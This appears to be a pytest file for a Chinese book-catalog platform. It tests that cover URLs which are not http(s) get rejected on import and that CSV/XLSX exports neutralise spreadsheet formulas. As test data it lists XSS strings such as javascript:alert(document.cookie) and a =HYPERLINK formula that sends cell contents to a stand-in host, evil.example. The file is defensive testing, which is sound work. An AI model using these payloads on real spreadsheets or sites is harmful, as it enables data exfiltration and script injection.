"""Hostile catalog files (issue 7, item 10): a cover that is not an http(s) URL is refused with
a reason naming it and nothing is stored; text that a spreadsheet would run as a formula is
neutralised in every CSV/XLSX the platform writes (``core/spreadsheets.py``)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from xinyue.catalog.models import Title
from xinyue.catalog.services.imports import import_catalog
from xinyue.core.actors import SYSTEM
from xinyue.core.spreadsheets import csv_bytes, safe_cell, xlsx_bytes
from xinyue.suppliers.services import create_supplier

HEADER = "isbn,title,authors,publisher,year,category,list_price,stock,summary,cover\n"


@pytest.fixture
def xinhua(db):
    return create_supplier(actor=SYSTEM, code="zjxinhua", name="浙江省新华书店")


@pytest.mark.parametrize(
    "cover",
    ["javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", "data:text/html,<b>x</b>",
     "//evil.example/x.png", "/media/x.png", "ftp://example.com/x.png"],
)  # fmt: skip
def test_a_cover_that_is_not_an_http_url_is_refused(xinhua, cover):
    row = f"9787536692930,三体,刘慈欣,重庆出版社,2008,科幻,23.00,1,,{cover}\n"
    result = import_catalog(
        actor=SYSTEM, supplier=xinhua, file=(HEADER + row).encode(), filename="b.csv"
    )
    assert result.created == 0
    assert len(result.rejected) == 1
    assert result.rejected[0].reason.startswith("封面地址须为 http(s) 网址")
    assert not Title.objects.exists()


def test_an_https_cover_is_kept(xinhua):
    row = "9787536692930,三体,刘慈欣,重庆出版社,2008,科幻,23.00,1,,https://img.example.com/3t.jpg\n"
    result = import_catalog(
        actor=SYSTEM, supplier=xinhua, file=(HEADER + row).encode(), filename="b.csv"
    )
    assert result.created == 1
    assert Title.objects.get().cover == "https://img.example.com/3t.jpg"


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def test_safe_cell_neutralises_every_formula_prefix():
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [safe_cell(v) for v in ("三体", "a=b", -5, 3.5, None)] == ["三体", "a=b", -5, 3.5, None]


def test_csv_cells_are_never_formulas():
    data = csv_bytes(["书名", "数量"], [[v, 1] for v in HOSTILE])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["书名", "数量"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]


def test_xlsx_cells_are_text_never_formulas():
    book = load_workbook(io.BytesIO(xlsx_bytes(["书名", "数量"], [[v, -5] for v in HOSTILE])))
    sheet = book.active
    cells = [sheet.cell(row=i, column=1) for i in range(2, len(HOSTILE) + 2)]
    assert all(c.data_type == "s" for c in cells)
    # (XML stores a lone CR as a line feed; it still follows the apostrophe)
    assert [c.value for c in cells] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert sheet.cell(row=2, column=2).value == -5
